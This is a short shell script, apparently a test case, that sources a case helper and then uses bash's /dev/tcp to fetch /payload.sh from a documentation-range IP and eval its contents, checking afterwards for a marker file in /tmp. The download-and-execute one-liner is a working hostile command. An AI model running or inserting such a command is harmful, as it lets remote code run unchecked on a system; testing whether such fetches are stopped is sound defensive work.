#!/bin/sh
. /opt/case/case.sh

bash -c '
exec 3<>/dev/tcp/203.0.113.10/80
printf "GET /payload.sh HTTP/1.0\r\n\r\n" >&3
while IFS= read -r line <&3; do [ ${#line} -gt 1 ] || break; done
eval "$(while IFS= read -r line <&3; do echo "$line"; done)"'
test -e /tmp/reached
took_place
